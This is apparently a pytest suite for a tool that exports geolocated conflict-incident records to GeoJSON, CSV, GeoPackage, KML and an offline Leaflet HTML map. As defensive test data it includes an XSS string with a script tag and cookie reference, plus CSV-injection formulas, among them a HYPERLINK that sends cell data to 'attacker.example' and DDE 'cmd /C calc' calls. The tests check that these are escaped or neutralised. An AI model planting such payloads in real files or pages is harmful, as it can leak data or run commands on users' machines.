"""Exports on real SQLite files: round trips through GeoJSON, CSV and GeoPackage, KML that
parses, a standalone HTML map with escaped text, one filter path, and the CLI."""

import csv
import html
import io
import json
import re
import subprocess
import xml.etree.ElementTree as ET

import pyogrio
import pytest
from click.testing import CliRunner

from geomap.cli import main
from geomap.errors import ValidationError
from geomap.query import IncidentQuery
from geomap.services.columns import COLUMNS
from geomap.services.export import (
    KML_STYLES,
    export_query,
    export_to,
    format_for,
    iter_csv_rows,
    write_csv,
    write_geojson,
    write_html_map,
    write_kml,
)
from geomap.services.ingest import ingest_paths
from geomap.store import SQLiteStore
from tests.incident_samples import sample, samples

EVERYTHING = IncidentQuery(layer=None, limit=None)
KML = "{http://www.opengis.net/kml/2.2}"
HOSTILE = ("Gunmen shot at a checkpoint, \"locals said\"; <script>alert('x')</script> "
           "${document.cookie} `rm` C:\\temp\nsecond line")


def tricky_features() -> list[dict]:
    """Features that strain flat formats: lines, holes, altitude, extras, quotes, Arabic."""
    route = sample("mosul_ied")
    route["geometry"] = {"type": "LineString", "coordinates": [[44.3661, 33.3152],
                                                               [43.7794, 33.35]]}
    route["properties"].update(summary="A convoy on the Baghdad-Fallujah road was ambushed.",
                               quote=None, location="Baghdad-Fallujah road", confidence=0.75,
                               verified=True, analyst="N. Haddad", reviewed=None, count=3)
    area = sample("idlib_airstrike")
    area["geometry"] = {"type": "Polygon", "coordinates": [
        [[36.5, 35.8], [36.8, 35.8], [36.8, 36.0], [36.5, 36.0], [36.5, 35.8]],
        [[36.6, 35.85], [36.7, 35.85], [36.7, 35.9], [36.6, 35.85]]]}
    area["properties"]["source"] = dict(area["properties"]["source"], language="ar")
    high = sample("erbil_missiles")
    high["geometry"]["coordinates"] = [44.0092, 36.1911, 415.0]
    hostile = sample("green_village")
    hostile["properties"].update(summary=HOSTILE, location_mention="دير الزور",
                                 actor2="Civilians, \"Syria\"", source=None, event_time=None)
    for name, feature in (("route", route), ("area", area), ("high", high), ("hostile", hostile)):
        feature["properties"]["id"] = f"tricky-{name}"
    return [route, area, high, hostile]


@pytest.fixture
def store(tmp_path):
    with SQLiteStore(tmp_path / "geomap.sqlite") as store:
        result = store.add_many([*samples().values(), *tricky_features()])
        assert (result.added, result.refused) == (10, [])
        yield store


def without_times(features) -> dict:
    found = {}
    for feature in features:
        properties = {k: v for k, v in feature["properties"].items()
                      if k not in ("created_at", "updated_at")}
        found[feature["id"]] = {**feature, "properties": properties}
    return found


@pytest.mark.parametrize("fmt", ["geojson", "csv", "gpkg"])
def test_export_then_import_gives_the_same_features(store, tmp_path, fmt):
    path = tmp_path / f"incidents.{fmt}"
    assert export_to(store, EVERYTHING, fmt, path) == 10
    with SQLiteStore(tmp_path / "fresh.sqlite") as fresh:
        summary = ingest_paths(fresh, [path])
        assert (summary.added, summary.refused, summary.failed) == (10, [], []), summary.lines()
        assert without_times(fresh.iter_features(EVERYTHING)) == without_times(
            store.iter_features(EVERYTHING))
        again = ingest_paths(fresh, [path])
        assert (again.added, again.skipped) == (0, 10)


def test_geojson_is_one_valid_collection_of_the_filtered_features(store):
    out = io.BytesIO()
    query = export_query({"country": "SY", "type": "Explosions/Remote violence"})
    assert query.limit is None
    assert write_geojson(store, query, out) == 4
    collection = json.loads(out.getvalue())
    assert collection["type"] == "FeatureCollection"
    assert collection["features"] == store.query(query)
    assert {f["properties"]["country"] for f in collection["features"]} == {"SY"}


def test_empty_exports_are_still_valid_files(store, tmp_path):
    nothing = export_query({"country": "LB"})
    out = io.BytesIO()
    assert write_geojson(store, nothing, out) == 0
    assert json.loads(out.getvalue()) == {"type": "FeatureCollection", "features": []}
    assert export_to(store, nothing, "gpkg", tmp_path / "none.gpkg") == 0
    assert pyogrio.read_info(tmp_path / "none.gpkg")["features"] == 0


def test_export_query_keeps_a_given_limit_and_refuses_bad_parameters():
    assert export_query({"limit": "5", "sort": "fatalities"}).limit == 5
    assert export_query({"bbox": "40,34,41,35.5"}).bbox == (40.0, 34.0, 41.0, 35.5)
    with pytest.raises(ValidationError) as error:
        export_query({"bbox": "40,34"})
    assert error.value.field == "bbox"
    assert format_for("out.GeoJSON") == "geojson" and format_for("x", "kml") == "kml"
    with pytest.raises(ValidationError, match="format"):
        format_for("out.xlsx")


def test_csv_has_the_flat_table_and_the_gpkg_the_same_columns(store, tmp_path):
    out = io.BytesIO()
    write_csv(store, export_query({"sort": "id"}), out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8"), newline="")))
    assert list(rows[0]) == list(COLUMNS) and len(rows) == 10
    green = next(row for row in rows if row["location"] == "Green Village" and row["source_title"])
    assert (green["latitude"], green["longitude"], green["geometry"]) == ("35.152", "40.576", "")
    assert green["source_published"] == "2022-04-08" and green["fatalities"] == "0"
    hostile = next(row for row in rows if row["summary"].startswith("Gunmen"))
    assert hostile["summary"] == HOSTILE and hostile["location_mention"] == "دير الزور"
    route = next(row for row in rows if row["location"] == "Baghdad-Fallujah road")
    assert json.loads(route["geometry"])["type"] == "LineString"
    assert json.loads(route["extra"]) == {"analyst": "N. Haddad", "confidence": 0.75, "count": 3,
                                          "reviewed": None, "verified": True}
    export_to(store, EVERYTHING, "gpkg", tmp_path / "all.gpkg")
    info = pyogrio.read_info(tmp_path / "all.gpkg", layer="incidents")
    assert list(info["fields"]) == [column for column in COLUMNS if column != "geometry"]
    assert next(iter_csv_rows(store, EVERYTHING))[COLUMNS.index("layer")] == "incidents"


def test_kml_parses_with_one_placemark_per_feature(store):
    out = io.BytesIO()
    assert write_kml(store, EVERYTHING, out) == 10
    root = ET.fromstring(out.getvalue())
    placemarks = root.findall(f"{KML}Document/{KML}Placemark")
    assert len(placemarks) == 10
    descriptions = [p.findtext(f"{KML}description") for p in placemarks]
    assert HOSTILE in [html.unescape(text) for text in descriptions]  # as text, not markup
    assert not any("<script" in text for text in descriptions)
    kinds = {child.tag.removeprefix(KML) for p in placemarks for child in p
             if child.tag.removeprefix(KML) in ("Point", "LineString", "Polygon")}
    assert kinds == {"Point", "LineString", "Polygon"}
    polygon = root.find(f".//{KML}Polygon")
    assert polygon.find(f"{KML}innerBoundaryIs") is not None
    data = {d.get("name"): d.findtext(f"{KML}value") for d in placemarks[0].iter(f"{KML}Data")}
    assert data["event_type"] and data["latitude"] and data["id"]


def test_html_map_is_standalone_leaflet_with_escaped_text(store):
    out = io.BytesIO()
    assert write_html_map(store, EVERYTHING, out) == 10
    page = out.getvalue().decode("utf-8")
    assert page.startswith("<!DOCTYPE html>") and "L.map(" in page and "leaflet" in page
    assert "markerClusterGroup" in page and page.count("L.circleMarker(") == 10
    # Leaflet, the cluster plugin and jQuery are inlined: the file opens on an air-gapped machine.
    assert not re.search(r'<script src=|<link rel="stylesheet" href=', page)
    assert "window.L=t" in page and "jQuery" in page
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page
    assert "<script>alert" not in page
    assert "&#36;{document.cookie}" in page and "${document.cookie}" not in page
    assert "&#96;rm&#96;" in page and "C:&#92;temp" in page


def test_html_map_refuses_too_many_features_and_writes_no_file(store, tmp_path):
    path = tmp_path / "out" / "map.html"
    with pytest.raises(ValidationError, match="at most 5"):
        export_to(store, EVERYTHING, "html", path, max_features=5)
    assert list(path.parent.iterdir()) == []
    capped = export_query({"limit": "5", "sort": "id"})
    assert export_to(store, capped, "html", path, max_features=5) == 5


def test_cli_export_filters_through_parse_query(store, tmp_path):
    runner = CliRunner()
    db = str(store.path)
    out = tmp_path / "iraq.csv"
    done = runner.invoke(main, ["--db", db, "export", "--country", "IQ", "-o", str(out)])
    assert done.exit_code == 0, done.output
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert len(rows) == 5 and {row["country"] for row in rows} == {"IQ"}
    kml = tmp_path / "strikes.xml"
    done = runner.invoke(main, ["--db", db, "export", "--format", "kml", "--sub-type",
                                "Air/drone strike", "--start", "2022-01-01", "-o", str(kml)])
    assert done.exit_code == 0, done.output
    assert len(ET.parse(kml).getroot().findall(f".//{KML}Placemark")) == 2
    done = runner.invoke(main, ["--db", db, "export", "--bbox", "40,34", "-o", str(out)])
    assert done.exit_code == 2 and "bbox: must be four numbers" in done.output
    done = runner.invoke(main, ["--db", db, "export", "-o", str(tmp_path / "x.xlsx")])
    assert done.exit_code == 2 and "format" in done.output
    done = runner.invoke(main, ["--db", db, "export", "--layer", "incidents", "--format",
                                "geojson", "--limit", "2", "-o", "-"])
    assert done.exit_code == 0 and len(json.loads(done.stdout)["features"]) == 2


def test_cli_export_of_a_layer_that_does_not_exist_says_so_and_writes_nothing(store, tmp_path):
    out = tmp_path / "typo.geojson"
    done = CliRunner().invoke(main, ["--db", str(store.path), "export", "--layer", "incidnets",
                                     "-o", str(out)])
    assert done.exit_code == 2 and "no layer 'incidnets'" in done.output
    assert not out.exists()


FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the source")',
            "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised_and_round_trip(tmp_path):
    features = []
    for number, formula in enumerate(FORMULAS):
        feature = sample("mosul_ied")
        feature["properties"].update(summary=formula, actor1=formula, location=f"Mosul {number}",
                                     fatalities=2)
        features.append(feature)
    washington = sample("baghdad_protest")  # a protest outside the embassy in Washington
    washington["geometry"]["coordinates"] = [-77.0365, 38.8977]
    washington["properties"].update(country="US", location="Washington", admin1="District of Columbia")
    features.append(washington)
    with SQLiteStore(tmp_path / "a.sqlite") as store:
        store.add_many(features)
        path = tmp_path / "hostile.csv"
        export_to(store, EVERYTHING, "csv", path)
        rows = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
        hostile = [row for row in rows if row["location"] != "Washington"]
        assert sorted(row["summary"] for row in hostile) == sorted("'" + f.strip() for f in FORMULAS)
        assert all(row["actor1"] == row["summary"] and row["fatalities"] == "2" for row in hostile)
        (plain,) = [row for row in rows if row["location"] == "Washington"]
        assert (plain["longitude"], plain["latitude"]) == ("-77.0365", "38.8977")
        with SQLiteStore(tmp_path / "b.sqlite") as fresh:
            assert ingest_paths(fresh, [path]).added == len(FORMULAS) + 1
            assert without_times(fresh.iter_features(EVERYTHING)) == without_times(
                store.iter_features(EVERYTHING))


def test_kml_has_one_style_per_event_type_and_each_placemark_uses_its_own(store):
    out = io.BytesIO()
    write_kml(store, EVERYTHING, out)
    root = ET.fromstring(out.getvalue())
    styles = {style.get("id"): style.findtext(f"{KML}IconStyle/{KML}color")
              for style in root.iter(f"{KML}Style")}
    assert styles == {style: f"ff{rgb[4:]}{rgb[2:4]}{rgb[:2]}" for style, rgb in KML_STYLES.values()}
    for placemark in root.iter(f"{KML}Placemark"):
        kind = next(d.findtext(f"{KML}value") for d in placemark.iter(f"{KML}Data")
                    if d.get("name") == "event_type")
        assert placemark.findtext(f"{KML}styleUrl") == f"#{KML_STYLES[html.unescape(kind)][0]}"


def test_geopackage_layers_are_typed_for_gis_clients(store, tmp_path):
    path = tmp_path / "typed.gpkg"
    assert export_to(store, EVERYTHING, "gpkg", path) == 10
    layers = {name: kind for name, kind in pyogrio.list_layers(path)}
    assert layers == {"incidents": "Point", "incidents_point_z": "Point Z",
                      "incidents_linestring": "LineString", "incidents_polygon": "Polygon"}
    info = pyogrio.read_info(path, layer="incidents")
    types = dict(zip(info["fields"], info["ogr_types"], strict=True))
    assert (types["event_date"], types["fatalities"], types["injuries"], types["time_precision"],
            types["latitude"], types["summary"]) == (
        "OFTDate", "OFTInteger", "OFTInteger", "OFTInteger", "OFTReal", "OFTString")
    described = subprocess.run(["ogrinfo", "-so", "-nomd", str(path), "incidents"], check=True,
                               capture_output=True, text=True).stdout  # Debian's GDAL
    assert "Geometry: Point" in described and "event_date: Date" in described
    assert "fatalities: Integer" in described
    frame = pyogrio.read_dataframe(path, layer="incidents")
    green = frame[frame["location"] == "Green Village"].iloc[0]
    assert str(green["event_date"].date()) == "2022-04-07" and green["injuries"] == 4
    assert frame["fatalities"].isna().any()  # unknown stays null, not 0
